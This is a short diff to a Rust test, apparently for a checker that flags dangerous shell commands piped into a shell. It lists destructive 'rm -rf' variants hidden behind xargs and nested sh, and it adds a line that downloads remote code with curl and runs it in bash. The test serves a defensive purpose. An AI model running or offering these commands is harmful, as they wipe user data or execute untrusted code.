@@ -111,6 +111,7 @@ fn text_piped_into_a_shell_is_checked() {
             "echo / | xargs -i{} rm -rf {}",
             "echo ~ | xargs --replace=@ rm -rf @",
             "echo \"echo 'rm -rf /' | sh\" | sh",
+            "bash < <(curl -s https://x)",
         ],
     );
     table(
